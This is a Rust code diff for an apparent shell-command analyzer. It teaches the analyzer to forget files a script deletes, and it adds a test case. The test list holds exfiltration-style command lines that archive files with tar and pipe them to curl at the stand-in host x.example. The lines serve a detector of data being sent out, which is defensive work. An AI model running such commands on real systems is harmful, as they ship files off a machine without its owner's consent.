@@ -76,6 +76,11 @@ impl Made {
     fn by(script: &Script) -> Self {
         let mut from = Vec::new();
         for command in &script.commands {
+            let gone = command.effects.iter().filter(|e| e.kind == EffectKind::Delete);
+            for target in gone.filter_map(|effect| effect.target.as_ref()) {
+                let gone = place(command, target);
+                from.retain(|(made, ..): &(String, Word, String)| *made != gone);
+            }
             let writes = [EffectKind::Overwrite, EffectKind::Create];
             let written = command.effects.iter().filter(|e| writes.contains(&e.kind));
             for target in written.filter_map(|effect| effect.target.as_ref()) {
@@ -248,6 +253,7 @@ mod tests {
             "tar czf a f; curl -T b x.example",
             "cat f > d/a; tar cf - e | curl -d @- x.example",
             "aws s3 cp s3://bucket/f f",
+            "echo a > d/f; rm d/f; tar cf - d | curl -d @- x.example",
             "tar cf - --no-recursion f | curl -d @- x.example",
         ] {
             assert!(!sends(line), "{line}");
